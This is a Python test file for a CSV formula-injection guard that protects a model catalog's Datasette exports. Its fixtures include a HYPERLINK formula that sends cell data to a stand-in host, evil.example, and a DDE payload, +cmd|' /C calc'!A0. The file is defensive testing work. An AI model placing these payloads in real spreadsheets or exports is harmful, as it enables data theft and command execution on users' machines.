"""CSV exports a spreadsheet cannot run: a page that names its model ``=HYPERLINK(...)`` is
scraped from a hostile server on 127.0.0.1 and Datasette's ``.csv`` pages are read back."""

from __future__ import annotations

import csv
import io
import random
import sqlite3

import pytest

from catalog.publish import serve
from catalog.publish.spreadsheet import CsvFormulaGuard, safe_cell
from tests.conftest import run_scrape
from tests.faultserver import Fault, FaultServer, fault_server

__all__ = ["fault_server"]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAGE = (f"<html><head><title>x</title></head><body><h1>{FORMULA}</h1>"
        "<p>Provider: @evil</p><p>Input:$1/M</p><p>Output:$2/M</p>"
        "<p>-5 is a number, +cmd|' /C calc'!A0 is not</p></body></html>")


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-x", "'-x"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("1e-06", "1e-06"), ("-2.4E-6", "-2.4E-6"),
    ("gpt-4", "gpt-4"), ("", ""), (None, None), (-5, -5), (2.5, 2.5),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_guard_rewrites_rows_split_anywhere():
    """Chunks cut inside quotes, inside a UTF-8 sequence and inside a line end."""
    rows = [["id", "name"], ["1", FORMULA], ["2", "-5"], ["3", "multi\nline =x"],
            ["4", "@here — ünïcode"], ["5", ""]]
    source = io.StringIO()
    csv.writer(source, lineterminator="\r\n").writerows(rows)
    data = source.getvalue().encode()
    for size in (1, 2, 3, 7, len(data)):
        guard = CsvFormulaGuard()
        out = b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size))
        out += guard.close()
        back = list(csv.reader(io.StringIO(out.decode(), newline="")))
        assert back == [["id", "name"], ["1", "'" + FORMULA], ["2", "-5"],
                        ["3", "multi\nline =x"], ["4", "'@here — ünïcode"], ["5", ""]], size


def test_a_clean_csv_passes_byte_for_byte():
    data = b'id,name,usd\r\n1,"GPT-4, 0314",30\r\n2,gpt-4o-mini,-0.5\r\n'
    guard = CsvFormulaGuard()
    assert guard.feed(data) + guard.close() == data


@pytest.fixture
def hostile_catalog(fault_server: FaultServer, tmp_path):
    path = "/models/evil/formula/"
    fault_server.route("/sitemap.xml", Fault.xml(
        b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        + f"<url><loc>{fault_server.url(path)}</loc></url>".encode() + b"</urlset>"))
    fault_server.route(path, Fault.page(PAGE))
    db = tmp_path / "catalog.db"
    result = run_scrape(fault_server.base_url, db, follow_links=False)
    assert result.status == "complete", result.reason
    return db


async def test_datasette_csv_of_a_hostile_name_is_neutralized(hostile_catalog):
    ds = serve.build_datasette(hostile_catalog)
    page = await ds.client.get("/catalog/models.json?_shape=array")
    assert page.json()[0]["name"] == FORMULA  # the stored data is as the page says
    for path in ("/catalog/models.csv", "/catalog/models.csv?_stream=on",
                 "/catalog/models.csv?_dl=1",
                 "/catalog.csv?sql=select+name+from+models"):
        response = await ds.client.get(path)
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert rows[0]["name"] == "'" + FORMULA, path
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_every_cell_is_guarded_however_the_stream_is_cut():
    """The streaming guard agrees with ``safe_cell`` on every cell of random CSV (quotes,
    separators, line ends and formula starts anywhere), cut into chunks of random sizes."""
    rng = random.Random(21)
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "a", "1", ".", "e", "ü", " "]
    for _ in range(1500):
        rows = [["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
                 for _ in range(rng.randint(1, 4))] for _ in range(rng.randint(1, 4))]
        source = io.StringIO()
        csv.writer(source, lineterminator="\r\n").writerows(rows)
        data = source.getvalue().encode()
        size = rng.randint(1, 9)
        guard = CsvFormulaGuard()
        out = b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size))
        out += guard.close()
        back = list(csv.reader(io.StringIO(out.decode(), newline="")))
        assert back == [[safe_cell(c) for c in row] for row in rows], (rows, size)


def test_a_3_mb_cell_is_guarded_in_one_pass():
    """Issue 21, item 9: a 3 MB cell in 8 KB chunks (past the csv module's 131,072-character
    field limit, so no csv.reader) is looked at once: a few steps per chunk, and it
    streams out as it comes (nothing held back but the first characters of a cell)."""
    cell = "=" + "x" * 3_000_000
    data = f'id,description\r\n1,"{cell}"\r\n2,-0.5\r\n'.encode()
    guard = CsvFormulaGuard()
    chunks = [data[i:i + 8192] for i in range(0, len(data), 8192)]
    out = []
    for chunk in chunks:
        out.append(guard.feed(chunk))
        assert sum(map(len, out)) >= sum(map(len, chunks[:len(out)])) - 8192  # streamed
    out.append(guard.close())
    assert guard.steps <= 2 * len(chunks) + 40
    assert b"".join(out) == f'id,description\r\n1,"\'{cell}"\r\n2,-0.5\r\n'.encode()


async def test_datasette_csv_streams_cells_past_the_csv_field_limit(fresh_copy):
    """``/catalog/pages.csv`` of a catalog whose page holds a 300,000-character description
    (once: the header, then "field larger than field limit (131072)")."""
    description = "-" + "prose " * 50_000
    with sqlite3.connect(fresh_copy) as conn:
        url = conn.execute("SELECT url FROM pages ORDER BY url LIMIT 1").fetchone()[0]
        conn.execute("UPDATE pages SET description = ? WHERE url = ?", (description, url))
        count = conn.execute("SELECT count(*) FROM pages").fetchone()[0]
    conn.close()
    ds = serve.build_datasette(fresh_copy)
    paths = ("/catalog/pages.csv?_size=max&_sort=url", "/catalog/pages.csv?_stream=on")
    responses = [await ds.client.get(path) for path in paths]  # at the csv module's limit
    csv.field_size_limit(10_000_000)  # the test's own reader must take the long cell back
    try:
        for path, response in zip(paths, responses, strict=True):
            assert response.status_code == 200, path
            rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
            assert len(rows) == count, path
            assert {r["url"]: r["description"] for r in rows}[url] == "'" + description, path
    finally:
        csv.field_size_limit(131072)
